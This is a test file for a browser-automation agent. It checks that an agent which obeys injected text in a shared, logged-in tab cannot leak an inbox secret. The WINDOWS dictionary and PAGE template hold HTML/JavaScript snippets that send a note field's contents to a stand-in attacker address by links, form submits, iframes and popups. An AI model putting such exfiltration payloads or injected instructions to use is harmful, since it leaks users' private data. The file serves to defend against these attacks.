"""A victim that obeys every text: nothing that it read in a shared tab reaches the attacker."""

import asyncio
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from strap import testing
from strap_browser.relay.access.pairing import Pairing
from tests.plugins.browser.chrome.chromium import Chromium
from tests.plugins.browser.flow.attacks import (
    SECRET,
    UNSEEN,
    in_chrome,
    spellings,
    through_pages,
    to_address,
)
from tests.plugins.browser.flow.test_attacks import LATE, obey
from tests.plugins.browser.flow.world import knows, opened_world
from tests.plugins.browser.runs.lab import click, index_before, laboratory, shown
from tests.support.model_server import act, done

from .conftest import Strap, free_port, tables

pytestmark = pytest.mark.anyio


WINDOWS = {
    "link": "<a id=go target=_blank href=/>x</a>",
    "by key": "<a id=go href=/>x</a>",
    "by base": "<base target=_blank><a id=go href=/>x</a>",
    "detached": "<a id=go onclick=\"const a = document.createElement('a');"
    " Object.assign(a, { target: 'x', href: URL_() }); a.click(); return false\" href=/>x</a>",
    "submitted": "<form id=f target=_blank action=EVIL/got><input name=d id=d></form>"
    '<a id=go href=/ onclick="d.value = note.value; f.submit(); return false">x</a>',
    "of a frame": '<iframe id=i></iframe><a id=go href=/ onclick="'
    'i.contentWindow.open(URL_()); return false">x</a>',
    "by name": "<a id=go target=other href=/>x</a>",
}
"""Ways in which a page opens a window; `URL_()` is the attacker's address with the note."""
PAGE = """<title>Note</title><textarea id=note></textarea>{}<script>
const URL_ = () => 'EVIL/got?d=' + encodeURIComponent(note.value);
note.oninput = () => {{ if (go.onclick === null) go.href = URL_(); }};</script>"""


@asynccontextmanager
async def shared(chromium: Chromium, folder: Path, flow: str):
    """The world, and a victim that has read its inbox in a tab that the person shared."""
    evil = [""]
    notes = {
        f"/{name.replace(' ', '-')}": lambda _, shown=shown: PAGE.format(shown).replace(
            "EVIL", evil[0]
        )
        for name, shown in WINDOWS.items()
    }
    with opened_world(folder, extra=notes) as world:
        port, evil[0] = free_port(), world.attacker
        await chromium.pair(Pairing(world.home).renew(), port)
        plugins = tables(port, webmcp=True)
        async with testing.router(
            home=world.home, network="local", plugins=plugins, flow=flow
        ) as web:
            caller = Strap(web, chromium, world.home, port).caller()
            await caller("launch")
            await caller.connected()
            name, tab = await caller.share(f"{world.mail}/enter")  # where the person logs in
            await chromium.until(tab, "document.title === 'Inbox'")
            answer = await caller.result("snapshot", target_id=name)
            assert SECRET in answer.text
            assert answer.read == {world.mail.removeprefix("http://"): "private"}
            yield world, caller
            await chromium.close_tabs()


@pytest.mark.parametrize("flow", ["strict", "ask"])
async def test_nothing_reaches_the_attacker(chromium, tmp_path, flow: str) -> None:
    async with shared(chromium, tmp_path, flow) as (world, caller):
        for name, told in spellings().items():
            for way, calls in to_address(world.attacker, told):
                if way == "split":
                    continue
                world.evil.requests.clear()
                said = await obey(caller.web, in_chrome(calls))
                assert not world.evil.requests, (way, name, said, world.stolen)


@pytest.mark.parametrize("flow", ["strict", "ask"])
async def test_no_page_sends_it_on(chromium, tmp_path, flow: str) -> None:
    async with shared(chromium, tmp_path, flow) as (world, caller):
        for way, calls in through_pages(world.mail, world.attacker, SECRET):
            if flow == "ask" and way in UNSEEN:
                continue
            said = await obey(caller.web, in_chrome(calls))
            assert not knows(world.stolen), f"{way}: {said[-3:]} {world.stolen}"
        await asyncio.sleep(LATE)
        assert not knows(world.stolen), world.stolen
        assert flow == "ask" or not world.evil.requests


async def test_windows_open_in_their_page_and_are_decided_on(chromium, tmp_path) -> None:
    async with shared(chromium, tmp_path, "ask") as (world, caller):
        for name in WINDOWS:
            url, held = f"{world.mail}/{name.replace(' ', '-')}", {"key": "Control"}
            for text in ("hello", SECRET):
                world.evil.requests.clear()
                await caller("navigate", url=url)
                await caller("fill", selector="#note", value=text)
                pages = await caller.pages()
                key = held if name == "by key" else {}
                said = await caller("click", selector="#go", **key)
                assert (await caller.pages()).keys() == pages.keys(), (name, said)
                assert not knows(world.stolen), (name, said)
                assert ("/got" in [r.path for r in world.evil.requests]) is (text == "hello"), said


def write(body):
    """The agent's step that writes into the note."""
    return act("input", index=index_before(shown(body), "aria-label=Note"), text=SECRET)


@pytest.mark.parametrize("flow", ["strict", "ask", "off"])
async def test_a_window_that_a_run_opens_is_decided_on(chromium, tmp_path, flow: str) -> None:
    with opened_world(tmp_path) as world:
        port = free_port()
        await chromium.pair(Pairing(world.home).renew(), port)
        async with laboratory(world.home, world.mail, flow=flow, relay_port=port) as lab:
            caller = Strap(lab.web, chromium, world.home, port).caller()
            await caller("launch")
            await caller.connected()
            await caller.share(f"{world.mail}/enter")  # where the person logs in
            script = [write, click("popup"), done("42")]
            result = await lab.raw(*script, path="/inbox", profile="chrome", urls=["*"])
            await asyncio.sleep(LATE)
            assert knows(world.stolen) is (flow == "off"), result.text
            await chromium.close_tabs()
